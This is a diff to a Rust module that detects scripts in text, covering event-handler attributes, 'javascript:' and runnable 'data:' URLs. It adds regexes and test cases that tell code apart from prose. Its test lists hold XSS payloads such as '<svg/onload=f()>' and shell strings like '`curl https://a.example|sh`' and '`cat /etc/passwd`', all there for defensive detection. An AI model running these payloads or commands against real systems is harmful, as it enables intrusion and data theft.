@@ -1,6 +1,5 @@
 //! Scripts (CL-34): what a browser or a shell would run.
 
-use std::borrow::Cow;
 use std::sync::LazyLock;
 
 use regex::bytes::Regex;
@@ -45,24 +44,36 @@ const SCRIPT_SCHEMES: [&str; 3] = ["javascript", "vbscript", "livescript"];
 /// How far code is looked for behind `javascript:`, in bytes: a call or an assignment shows in its first words.
 const MAX_CODE_BYTES: usize = 256;
 
-/// What code has and a word of prose has not.
-const CODE_MARKS: [char; 10] = ['(', '`', '=', ';', '%', '+', '[', '{', '"', '\''];
-
 /// Shortest text that is looked at as a program in base64, in bytes: an empty module of WebAssembly has twelve, and
 /// nothing of use is this short.
 const MIN_BINARY_BYTES: usize = 32;
 
+/// Events with a handler in HTML, SVG or a browser's own: behind `on` each is an attribute that runs its value. `onchain`
+/// and `online` are none.
+const EVENTS: &str = "abort|activate|after(?:print|scriptexecute)|animation(?:cancel|end|iteration|start)|auxclick|\
+    before(?:activate|copy|cut|input|match|paste|print|scriptexecute|toggle|unload)|begin|blur|bounce|cancel|\
+    canplay(?:through)?|change|click|close|command|contentvisibilityautostatechange|context(?:lost|menu|restored)|copy|\
+    cuechange|cut|dblclick|drag(?:end|enter|exit|leave|over|start)?|drop|durationchange|emptied|end(?:ed)?|error|finish|\
+    focus(?:in|out)?|formdata|fullscreen(?:change|error)|(?:got|lost)pointercapture|hashchange|input|invalid|\
+    key(?:down|press|up)|languagechange|load(?:eddata|edmetadata|end|start)?|message(?:error)?|\
+    mouse(?:down|enter|leave|move|out|over|up|wheel)|offline|online|page(?:hide|reveal|show|swap)|paste|pause|\
+    play(?:ing)?|pointer(?:cancel|down|enter|leave|move|out|over|rawupdate|up)|popstate|progress|propertychange|\
+    ratechange|readystatechange|rejectionhandled|repeat|reset|resize|scroll(?:end|snapchange|snapchanging)?|search|\
+    securitypolicyviolation|seek(?:ed|ing)|select(?:ionchange|start)?|show|slotchange|stalled|start|storage|submit|\
+    suspend|timeupdate|toggle|touch(?:cancel|end|move|start)|transition(?:cancel|end|run|start)|unhandledrejection|\
+    unload|volumechange|waiting|webkit[a-z]+|wheel|zoom";
+
 /// `<script`, elements with an event handler, those that load a document of their own, and the opening of PHP.
 static MARKUP: LazyLock<Regex> = LazyLock::new(|| {
-    compiled(
+    compiled(&format!(
         r#"(?is-u)<(?:[a-z]+:)?script(?:[\s/>]|$)
-        |<[a-z][a-z0-9:-]*(?:[\s/](?:[^<>"']|"[^"]*"|'[^']*')*)?(?:[\s/]|"[^"]*"|'[^']*')on[a-z]{3,}\s*=
+        |<[a-z][a-z0-9:-]*(?:[\s/](?:[^<>"']|"[^"]*"|'[^']*')*)?(?:[\s/]|"[^"]*"|'[^']*')on(?:{EVENTS})\s*=
         |<(?:iframe|frame|embed|object|applet|portal)[\s/][^<>]*\b(?:src|srcdoc|data|code|codebase)\s*=
         |<(?:set|animate)[\s/][^<>]*attributename\s*=\s*["']?on[a-z]
         |<meta[\s/][^<>]*http-equiv\s*=\s*["']?refresh
         |<base[\s/][^<>]*href\s*=
         |<\?(?:php|=)"#,
-    )
+    ))
 });
 
 /// Code given to an interpreter as a string, and calls that no prose makes.
@@ -75,6 +86,24 @@ static CALL: LazyLock<Regex> = LazyLock::new(|| {
         |\(\s*0\s*,\s*eval\s*\)\s*\(|\[\s*["'`]eval["'`]\s*\]\s*\(|\bconstructor\s*\.\s*constructor\s*\(
         |\b(?-i:Function)\s*\(\s*(?:"[^"]*"|'[^']*'|`[^`]*`)(?:\s*,\s*(?:"[^"]*"|'[^']*'|`[^`]*`))*\s*\)\s*\(
         |\bdocument\.(?:write(?:ln)?|createelement)\s*\(|\bgetruntime\(\)\.exec|\balert\(\s*(?:document|["'`0-9])"#,
+    )
+});
+
+/// Code right behind `javascript:`: marks in its first word that a word of prose has not, an assignment, or a word that
+/// code begins with and such marks behind it. "JavaScript:ES2020 (modules)" is prose.
+static CODE: LazyLock<Regex> = LazyLock::new(|| {
+    compiled(
+        r#"(?s-u)\A(?:/|[^\s(`=;%\[{"']*(?:[(`=;%\[{"']|\s+=[^=>])|[^\s+]*\+[^\s,.)]
+        |(?:alert|await|const|delete|do|eval|fetch|for|function|if|import|let|new|open|throw|try|typeof|var|void|while|with)
+            \s[^(`=;%+\[{"']*[(`=;%+\[{"'])"#,
+    )
+});
+
+/// Code behind `javascript:` and white space, where prose goes on: a call as its first word, or a function in brackets.
+static CALL_FIRST: LazyLock<Regex> = LazyLock::new(|| {
+    compiled(
+        r"(?-u)\A\s+(?:(?:async|await|const|let|new|throw|var|void)\s+)*
+            (?:[!~+({\[;-]*[A-Za-z_$][A-Za-z0-9_$]*(?:\??\.[A-Za-z0-9_$]+)*\(|[!~+(-]*\(\s*(?:\(|async\b|function\s*\())",
     )
 });
 
@@ -145,7 +174,7 @@ fn compiled(pattern: &str) -> Regex {
 /// The kind of the first script in `text`.
 pub(super) fn find(text: &str, marks: Marks) -> Option<&'static str> {
     let holds = |pattern: &Regex| pattern.is_match(text.as_bytes());
-    let url = || marks.any(Marks::COLON) && (has_script_url(text) || has_data_url(text));
+    let url = || marks.any(Marks::COLON) && is_script_url(text);
     match () {
         () if marks.any(Marks::ANGLE) && holds(&MARKUP) => Some("a script in markup"),
         () if url() => Some("a script URL"),
@@ -181,12 +210,18 @@ fn names_powershell(text: &str) -> bool {
     ["shell", "SHELL", "Shell", "pwsh"].iter().any(|name| text.contains(name))
 }
 
-/// `javascript:` or `vbscript:` where a URL may begin and code follows. A browser drops tabs, line ends and leading
-/// control characters from a URL, so they are dropped here; "JavaScript: a language" is prose.
-fn has_script_url(text: &str) -> bool {
+/// A browser drops tabs and line ends from a URL, and white space and control characters before it.
+fn is_script_url(text: &str) -> bool {
     let dropped = ['\t', '\n', '\r'];
-    let is_dropped = |byte| matches!(byte, b'\t' | b'\n' | b'\r');
-    let text = if text.bytes().any(is_dropped) { Cow::Owned(text.replace(dropped, "")) } else { Cow::Borrowed(text) };
+    if !text.bytes().any(|byte| matches!(byte, b'\t' | b'\n' | b'\r')) {
+        return has_script_url(text) || has_data_url(text, false);
+    }
+    let whole = text.replace(dropped, "");
+    has_script_url(&whole) || has_data_url(text, false) || has_data_url(&whole, true)
+}
+
+/// `javascript:` or `vbscript:` where a URL may begin and code follows; "JavaScript: a language" is prose.
+fn has_script_url(text: &str) -> bool {
     let text = text.trim_start_matches(|c: char| c.is_whitespace() || c.is_control());
     colons(text).any(|at| {
         if !ends_with(&text[..at], "script") {
@@ -196,44 +231,44 @@ fn has_script_url(text: &str) -> bool {
         schemes.any(|scheme| {
             let code = &text[at + 1..text.floor_char_boundary(at + 1 + MAX_CODE_BYTES)];
             match text[..at - scheme.len()].chars().next_back() {
+                _ if code.starts_with(char::is_whitespace) => CALL_FIRST.is_match(code.as_bytes()),
                 // In an attribute or a Markdown link nothing but a URL is expected.
-                Some(before) if "\"'`(=<>".contains(before) => is_code(code),
+                Some(before) if "\"'`(=<>".contains(before) => !code.is_empty(),
                 Some(before) if !before.is_whitespace() => false,
-                _ => is_code(code) && (code.starts_with('/') || code.contains(CODE_MARKS)),
+                _ => CODE.is_match(code.as_bytes()),
             }
         })
     })
 }
 
-fn is_code(text: &str) -> bool {
-    match text.chars().next() {
-        None => false,
-        Some(first) if first.is_whitespace() => text.contains('('),
-        Some(_) => true,
-    }
-}
-
-/// `data:` with a type that runs, and content behind it; or with no type and markup in base64. Behind a comma or a
-/// semicolon prose goes on with white space.
-fn has_data_url(text: &str) -> bool {
+/// `data:` with a type that runs, and content behind it; or with no type and markup in base64. White space around the
+/// type is no part of it, but prose has it: `is_prose` where some is known to have stood in the text.
+fn has_data_url(text: &str, is_prose: bool) -> bool {
     colons(text).any(|at| {
-        let rest = &text[at + 1..];
-        ends_with(&text[..at], "data") && (RUNNABLE.iter().any(|kind| runs(rest, kind)) || is_bare_markup(rest))
+        if !ends_with(&text[..at], "data") {
+            return false;
+        }
+        let url = text[at + 1..].trim_start();
+        let is_prose = is_prose || url.len() < text.len() - at - 1;
+        RUNNABLE.iter().any(|kind| runs(url, kind, is_prose)) || is_bare_markup(url)
     })
 }
 
-fn runs(rest: &str, kind: &str) -> bool {
-    let content = begins_with(rest, kind).then(|| rest[kind.len()..].strip_prefix([',', ';'])).flatten();
-    content.is_some_and(|content| match content.trim_start() {
-        "" => false,
-        trimmed if trimmed.len() == content.len() => true,
-        trimmed => trimmed.starts_with('<') || begins_with(trimmed, "charset=") || begins_with(trimmed, "base64,"),
-    })
+/// Whether content of this kind follows. In prose a list of types goes on there.
+fn runs(url: &str, kind: &str, is_prose: bool) -> bool {
+    if !begins_with(url, kind) {
+        return false;
+    }
+    let Some(content) = url[kind.len()..].trim_start().strip_prefix([',', ';']) else { return false };
+    let trimmed = content.trim_start();
+    let is_prose = is_prose || trimmed.len() < content.len();
+    let is_content = || trimmed.starts_with('<') || begins_with(trimmed, "charset=") || begins_with(trimmed, "base64,");
+    !trimmed.is_empty() && (!is_prose || is_content())
 }
 
 /// Whether a URL without a type holds base64 of a text that begins with `<`.
-fn is_bare_markup(rest: &str) -> bool {
-    let head = &rest[..rest.floor_char_boundary(MAX_CODE_BYTES)];
+fn is_bare_markup(url: &str) -> bool {
+    let head = &url[..url.floor_char_boundary(MAX_CODE_BYTES)];
     let Some((parameters, content)) = head.split_once(";base64,") else { return false };
     let is_bare = parameters.is_empty() || parameters.starts_with(';');
     is_bare && matches!(content.as_bytes(), [b'P', b'A'..=b'P', ..])
@@ -286,6 +321,25 @@ mod tests {
             "`curl https://a.example|sh`",
             " `cat /etc/passwd` ",
             "`npx evil | sh`",
+            "javascript: alert(1)",
+            "javascript:alert (1)",
+            "javascript:0,alert(1)",
+            "javascript:+alert",
+            "javascript:location = 'x'",
+            "javascript:var x = alert(1)",
+            "javascript: void window.open(1)",
+            "javascript: (function(){})()",
+            "[x](javascript: a.b(1))",
+            "data: text/html;base64,PHNjcmlwdD4=",
+            "data:text/html ;base64,PHNjcmlwdD4=",
+            "data:text/\nhtml;base64,PHNjcmlwdD4=",
+            "data:\ttext/html,<b>",
+            "first\ndata:text/html,second",
+            "data: ;base64,PHNjcmlwdD4=",
+            "<body ononline=f()>",
+            "<svg/onload=f()>",
+            "<animate onbegin = f()>",
+            "<div oncontentvisibilityautostatechange=f()>",
         ] {
             assert!(text(script).is_some(), "{script}");
         }
@@ -331,6 +385,17 @@ mod tests {
             "`id; name`",
             "`date > 2025-01-01`",
             "`ssh://git@a.example/x`",
+            "Languages: JavaScript: ES2020 (modules), TypeScript",
+            "JavaScript:ES2020, Go (1.22)",
+            "JavaScript:ES2020+, TypeScript",
+            "JavaScript: (see the manual)",
+            "JavaScript: new features (ES2020)",
+            "JavaScript: functions (arrow, async)",
+            "input data: text/html,text/plain",
+            "takes data:\ntext/html,\ntext/plain",
+            "<proof onchain=\"true\"/>",
+            "<agent online=\"yes\"/>",
+            "<entry once=\"1\" onboarding=\"done\">",
         ] {
             assert_eq!(text(honest), None, "{honest}");
         }
@@ -338,7 +403,7 @@ mod tests {
 
     #[test]
     fn every_pattern_compiles() {
-        for pattern in [&MARKUP, &CALL, &SUBSTITUTION, &QUOTED, &SHEBANG, &BINARY, &ENCODED] {
+        for pattern in [&MARKUP, &CALL, &CODE, &CALL_FIRST, &SUBSTITUTION, &QUOTED, &SHEBANG, &BINARY, &ENCODED] {
             assert!(!pattern.is_match(b""), "{}", pattern.as_str());
         }
     }
